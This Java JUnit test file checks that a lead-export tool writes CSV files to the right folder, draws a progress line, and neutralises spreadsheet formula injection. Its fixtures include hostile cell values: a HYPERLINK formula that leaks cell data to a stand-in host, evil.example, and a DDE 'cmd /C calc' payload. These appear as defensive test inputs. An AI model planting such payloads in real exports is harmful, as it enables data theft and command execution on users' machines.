package dev.leadkit.examples;

import static org.assertj.core.api.Assertions.assertThat;

import dev.leadkit.core.ConnectionException;
import dev.leadkit.core.LeadkitListener.Attempt;
import dev.leadkit.core.LeadkitListener.ListingEnded;
import dev.leadkit.core.LeadkitListener.ListingFailed;
import dev.leadkit.core.LeadkitListener.PageDelivered;
import dev.leadkit.core.Platform;
import dev.leadkit.orgleads.OrgLeadsClient;
import dev.leadkit.testkit.Fault;
import dev.leadkit.testkit.OrgLeadsSandbox;
import dev.leadkit.testkit.OrgLeadsSandboxLead;
import dev.leadkit.testkit.SandboxRequest;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.OptionalInt;
import java.util.OptionalLong;
import java.util.concurrent.atomic.AtomicLong;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Where {@link ExportLeads} writes, and that its CSV is RFC 4180 and opens in a spreadsheet as text. */
class ExportLeadsTest {

    private static final Map<String, String> NO_KEYS = Map.of();

    // ---- where the files go

    @Test
    void theSecondArgumentIsTheOutputFolder(@TempDir Path tmp) {
        Path folder = tmp.resolve("exports/orgleads");

        ExportLeads.run(new String[] {"orgleads", folder.toString()}, NO_KEYS, new Output().stream, new Output().stream);

        assertThat(folder.resolve("leads.csv")).isRegularFile();
        assertThat(folder.resolve("leads.jsonl")).isRegularFile();
    }

    @Test
    void withoutASecondArgumentTheFolderIsLeadkitExportInTheCurrentDirectory() {
        assertThat(ExportLeads.folder(new String[] {"orgleads"})).isEqualTo(Path.of("leadkit-export"));
        assertThat(ExportLeads.folder(new String[0])).isEqualTo(Path.of("leadkit-export"));
    }

    @Test
    void aBlankSecondArgumentMeansTheDefaultFolder() {
        assertThat(ExportLeads.folder(new String[] {"orgleads", " "})).isEqualTo(Path.of("leadkit-export"));
    }

    @Test
    void aRelativeFolderIsTakenFromTheCurrentDirectory() {
        assertThat(ExportLeads.folder(new String[] {"orgleads", "out/leads"}).toAbsolutePath())
                .isEqualTo(Path.of("").toAbsolutePath().resolve("out/leads"));
    }

    @Test
    void theSummarySaysWhereTheFilesAre(@TempDir Path tmp) {
        Output out = new Output();

        ExportLeads.run(new String[] {"orgleads", tmp.toString()}, NO_KEYS, out.stream, new Output().stream);

        assertThat(out.text()).contains(" to " + tmp.toAbsolutePath().resolve("leads.csv") + " and "
                + tmp.toAbsolutePath().resolve("leads.jsonl"));
    }

    // ---- the progress line: drawn by the client's listener from its events, not counted by the export

    @Test
    void theProgressLineIsRedrawnOnceForEachPageTheListenerIsToldOfWithTheVendorsTotal(@TempDir Path folder) {
        Output progress = new Output();
        ExportLeads.Summary summary;
        List<SandboxRequest> requests;
        try (OrgLeadsSandbox sandbox = OrgLeadsSandbox.builder().leads(380).seed(7).start();
                OrgLeadsClient client = OrgLeadsClient.builder().apiKey(sandbox.apiKey()).baseUrl(sandbox.baseUrl())
                        .sleeper(wait -> { }).listener(new ExportLeads.Progress(progress.stream)).build()) {
            sandbox.faults().onRequest(2, Fault.status(503)); // a retry: an attempt more, no page more
            summary = ExportLeads.export(client.leads().list(), folder, new Output().stream);
            requests = sandbox.requests();
        }

        List<String> lines = redraws(progress);
        assertThat(requests).hasSize(5);
        long pagesServed = requests.stream().filter(request -> request.status() == 200).count();
        assertThat(lines).hasSize((int) pagesServed).hasSize(summary.pages).hasSize(4);
        for (int page = 1; page <= 4; page++) {
            assertThat(lines.get(page - 1)).startsWith(Math.min(100 * page, 380) + " leads, " + page + " pages, ")
                    .contains("% of 380, ETA ");
        }
        assertThat(lines.get(3)).endsWith(", 100% of 380, ETA 0s" + System.lineSeparator());
        assertThat(progress.text()).containsOnlyOnce(System.lineSeparator());
    }

    @Test
    void withPrefetchThePagesRedrawTheLineInPageOrder(@TempDir Path folder) {
        Output progress = new Output();

        ExportLeads.Summary summary = ExportLeads.run("autocalls", folder, NO_KEYS, new Output().stream,
                progress.stream);

        List<String> lines = redraws(progress);
        assertThat(lines).hasSize(summary.pages).hasSize(3);
        for (int page = 1; page <= 3; page++) {
            assertThat(lines.get(page - 1)).startsWith(Math.min(100 * page, 250) + " leads, " + page + " pages, ");
        }
        assertThat(lines.get(2)).contains("100% of 250, ETA 0s");
    }

    @Test
    void theRateRunsFromTheFirstRequestAndTheEtaFromTheVendorsTotal() {
        AtomicLong now = new AtomicLong();
        Output progress = new Output();
        ExportLeads.Progress line = new ExportLeads.Progress(progress.stream, now::get);

        now.set(seconds(1));
        line.attempt(attempt(1, Duration.ofSeconds(1))); // sent at 0 s
        now.set(seconds(2));
        line.page(page(1, 1, 50, OptionalLong.of(200)));

        assertThat(progress.text()).isEqualTo("\r50 leads, 1 pages, 25 leads/s, 25% of 200, ETA 6s");
    }

    @Test
    void withoutTheVendorsTotalTheLineHasNoPercentageNorEta() {
        AtomicLong now = new AtomicLong();
        Output progress = new Output();
        ExportLeads.Progress line = new ExportLeads.Progress(progress.stream, now::get);

        line.attempt(attempt(1, Duration.ZERO));
        now.set(seconds(4));
        line.page(page(1, 1, 100, OptionalLong.empty()));
        line.page(page(1, 2, 100, OptionalLong.empty()));

        assertThat(redraws(progress)).containsExactly("100 leads, 1 pages, 25 leads/s", "200 leads, 2 pages, 50 leads/s");
    }

    @Test
    void theEventsOfAnotherListingLeaveTheLineAsItIs() {
        Output progress = new Output();
        ExportLeads.Progress line = new ExportLeads.Progress(progress.stream, () -> 0);

        line.page(page(1, 1, 10, OptionalLong.empty()));
        line.page(page(2, 1, 99, OptionalLong.empty()));
        line.listingEnded(new ListingEnded(PLATFORM, 2, 1, 99));
        line.page(page(1, 2, 10, OptionalLong.empty()));
        line.listingEnded(new ListingEnded(PLATFORM, 1, 2, 20));

        assertThat(redraws(progress)).hasSize(2).last().asString().startsWith("20 leads, 2 pages, ")
                .endsWith(System.lineSeparator());
    }

    @Test
    void aListingThatFailsEndsTheLineWithWhatStoppedIt() {
        Output progress = new Output();
        ExportLeads.Progress line = new ExportLeads.Progress(progress.stream, () -> 0);

        line.page(page(1, 1, 10, OptionalLong.empty()));
        line.listingFailed(new ListingFailed(PLATFORM, 1, 1, 10,
                new ConnectionException("GET /api/v1/leads failed after 4 attempts: timed out or interrupted")));
        line.end();

        assertThat(progress.text()).endsWith(" leads/s, failed: ConnectionException" + System.lineSeparator())
                .containsOnlyOnce(System.lineSeparator());
    }

    private static final Platform PLATFORM = new Platform("orgleads", "Nexus ERP");

    /** What the line showed, each time it was drawn. */
    private static List<String> redraws(Output progress) {
        return Arrays.stream(progress.text().split("\r")).filter(line -> !line.isEmpty()).toList();
    }

    private static long seconds(long seconds) {
        return Duration.ofSeconds(seconds).toNanos();
    }

    private static Attempt attempt(long listing, Duration elapsed) {
        return new Attempt(PLATFORM, listing, "GET /api/v1/leads", 1, OptionalInt.of(200), elapsed, 0, Optional.empty());
    }

    private static PageDelivered page(long listing, int number, int items, OptionalLong totalItems) {
        return new PageDelivered(PLATFORM, listing, number, items, totalItems, OptionalLong.empty());
    }

    // ---- cells a spreadsheet would read as a formula start with a single quote

    @Test
    void aCellStartingWithEqualsStartsWithAQuote() {
        assertThat(ExportLeads.csvCell("=1+2")).isEqualTo("'=1+2");
    }

    @Test
    void aCellStartingWithPlusStartsWithAQuote() {
        assertThat(ExportLeads.csvCell("+1+2")).isEqualTo("'+1+2");
    }

    @Test
    void aCellStartingWithMinusStartsWithAQuote() {
        assertThat(ExportLeads.csvCell("-2+3")).isEqualTo("'-2+3");
    }

    @Test
    void aCellStartingWithAtStartsWithAQuote() {
        assertThat(ExportLeads.csvCell("@SUM(A1:A9)")).isEqualTo("'@SUM(A1:A9)");
    }

    @Test
    void aCellStartingWithATabStartsWithAQuote() {
        assertThat(ExportLeads.csvCell("\t=1+2")).isEqualTo("'\t=1+2");
    }

    @Test
    void aCellStartingWithACarriageReturnStartsWithAQuoteInsideTheQuotes() {
        assertThat(ExportLeads.csvCell("\r=1+2")).isEqualTo("\"'\r=1+2\"");
    }

    @Test
    void aFormulaWithQuotesAndCommasIsQuotedAfterItsQuote() {
        assertThat(ExportLeads.csvCell("=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")"))
                .isEqualTo("\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"Click\"\")\"");
    }

    @Test
    void formulaCharactersAfterTheFirstLeaveTheCellAsItIs() {
        assertThat(ExportLeads.csvCell("Jane-Doe = CEO @ Acme +1")).isEqualTo("Jane-Doe = CEO @ Acme +1");
    }

    @Test
    void anEmptyCellStaysEmpty() {
        assertThat(ExportLeads.csvCell("")).isEmpty();
    }

    // ---- phone numbers

    @Test
    void aPhoneNumberInE164IsWrittenAsATelUri() {
        assertThat(ExportLeads.csvCell(ExportLeads.phonesCell(List.of("+14155550101")))).isEqualTo("tel:+14155550101");
    }

    @Test
    void severalPhoneNumbersAreTelUrisSeparatedBySpaces() {
        assertThat(ExportLeads.phonesCell(List.of("+14155550101", "+491540503492")))
                .isEqualTo("tel:+14155550101 tel:+491540503492");
    }

    @Test
    void aPhoneFieldHoldingAFormulaStartsWithAQuote() {
        assertThat(ExportLeads.csvCell(ExportLeads.phonesCell(List.of("=HYPERLINK(\"https://evil.example\")"))))
                .startsWith("\"'=HYPERLINK(");
    }

    @Test
    void aPhoneNotInE164IsWrittenAsSent() {
        assertThat(ExportLeads.phonesCell(List.of("(415) 555-0101"))).isEqualTo("(415) 555-0101");
    }

    // ---- a whole export, over HTTP from a sandbox holding hostile leads

    @Test
    void noCellOfAnExportStartsAsAFormula(@TempDir Path folder) throws IOException {
        List<List<String>> rows = exportHostileLeads(folder);

        assertThat(rows).hasSize(1 + HOSTILE_NAMES.size());
        for (List<String> row : rows) {
            for (String cell : row) {
                assertThat(cell).as("cell %s", cell.replace("\r", "\\r").replace("\t", "\\t"))
                        .doesNotStartWith("=").doesNotStartWith("+").doesNotStartWith("-").doesNotStartWith("@")
                        .doesNotStartWith("\t").doesNotStartWith("\r");
            }
        }
    }

    @Test
    void anExportReadsBackAsRfc4180WithTheNamesAfterTheirQuote(@TempDir Path folder) throws IOException {
        List<List<String>> rows = exportHostileLeads(folder);

        List<String> names = new ArrayList<>();
        for (List<String> row : rows.subList(1, rows.size())) {
            assertThat(row).hasSize(7);
            names.add(row.get(1));
        }
        assertThat(names).containsExactlyInAnyOrderElementsOf(
                HOSTILE_NAMES.stream().map(name -> "'" + name).toList());
    }

    @Test
    void anExportsPhoneNumbersAreTelUris(@TempDir Path folder) throws IOException {
        List<List<String>> rows = exportHostileLeads(folder);

        assertThat(rows.subList(1, rows.size())).allSatisfy(
                row -> assertThat(row.get(2)).isEqualTo("tel:+14155550101 tel:+491540503492"));
    }

    @Test
    void everyRecordOfAnExportEndsWithCrLf(@TempDir Path folder) throws IOException {
        exportHostileLeads(folder);

        String csv = Files.readString(folder.resolve("leads.csv"), StandardCharsets.UTF_8);
        List<List<String>> records = Rfc4180.parse(csv);
        assertThat(csv).endsWith("\r\n");
        assertThat(Rfc4180.recordEnds(csv)).hasSize(records.size()).containsOnly("\r\n");
    }

    /** Names as typed into a web form, each starting with a character a spreadsheet reads as a formula. */
    private static final List<String> HOSTILE_NAMES = List.of(
            "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click me\")",
            "+1 (415) 555-0101",
            "-Jane, the CEO",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+2",
            "\r\n=1+2");

    private static List<List<String>> exportHostileLeads(Path folder) throws IOException {
        List<OrgLeadsSandboxLead> leads = new ArrayList<>();
        for (int i = 0; i < HOSTILE_NAMES.size(); i++) {
            leads.add(new OrgLeadsSandboxLead(String.format("65f0%020x", i), HOSTILE_NAMES.get(i),
                    List.of("+14155550101", "+491540503492"), List.of("lead" + i + "@example.com"),
                    String.format("65f1%020x", i), Optional.empty(), Optional.empty(), "CONTACTED", Optional.empty(),
                    Optional.empty(), Instant.parse("2026-01-02T03:04:05Z"), Instant.parse("2026-01-03T03:04:05Z"),
                    Optional.empty(), Optional.empty()));
        }
        try (OrgLeadsSandbox sandbox = OrgLeadsSandbox.builder().leads(leads).start();
                OrgLeadsClient client = OrgLeadsClient.builder().apiKey(sandbox.apiKey()).baseUrl(sandbox.baseUrl())
                        .build()) {
            ExportLeads.export(client.leads().list(), folder, new Output().stream);
        }
        return Rfc4180.parse(Files.readString(folder.resolve("leads.csv"), StandardCharsets.UTF_8));
    }

    /** A strict reader of RFC 4180: CRLF between records, quoted fields with doubled quotes. */
    static final class Rfc4180 {

        static List<List<String>> parse(String text) {
            List<List<String>> records = new ArrayList<>();
            List<String> record = new ArrayList<>();
            StringBuilder field = new StringBuilder();
            int i = 0;
            while (i < text.length()) {
                if (text.charAt(i) == '"') {
                    i++;
                    while (true) {
                        if (i >= text.length()) {
                            throw new IllegalArgumentException("unclosed quoted field");
                        }
                        char c = text.charAt(i++);
                        if (c == '"') {
                            if (i < text.length() && text.charAt(i) == '"') {
                                field.append('"');
                                i++;
                            } else {
                                break;
                            }
                        } else {
                            field.append(c);
                        }
                    }
                } else {
                    while (i < text.length() && text.charAt(i) != ',' && text.charAt(i) != '\r') {
                        char c = text.charAt(i++);
                        if (c == '"' || c == '\n') {
                            throw new IllegalArgumentException("unquoted field holds " + (c == '"' ? "a quote" : "a bare LF"));
                        }
                        field.append(c);
                    }
                }
                record.add(field.toString());
                field.setLength(0);
                if (i < text.length() && text.charAt(i) == ',') {
                    i++;
                } else if (text.startsWith("\r\n", i)) {
                    records.add(record);
                    record = new ArrayList<>();
                    i += 2;
                } else if (i < text.length()) {
                    throw new IllegalArgumentException("expected a comma or CRLF at " + i);
                }
            }
            if (!record.isEmpty()) {
                records.add(record);
            }
            return records;
        }

        /** The line break after each record: what follows its last field. */
        static List<String> recordEnds(String text) {
            List<String> ends = new ArrayList<>();
            boolean quoted = false;
            for (int i = 0; i < text.length(); i++) {
                char c = text.charAt(i);
                if (c == '"') {
                    quoted = !quoted;
                } else if (!quoted && (c == '\r' || c == '\n')) {
                    boolean crlf = c == '\r' && i + 1 < text.length() && text.charAt(i + 1) == '\n';
                    ends.add(crlf ? "\r\n" : String.valueOf(c));
                    if (crlf) {
                        i++;
                    }
                }
            }
            return ends;
        }
    }
}
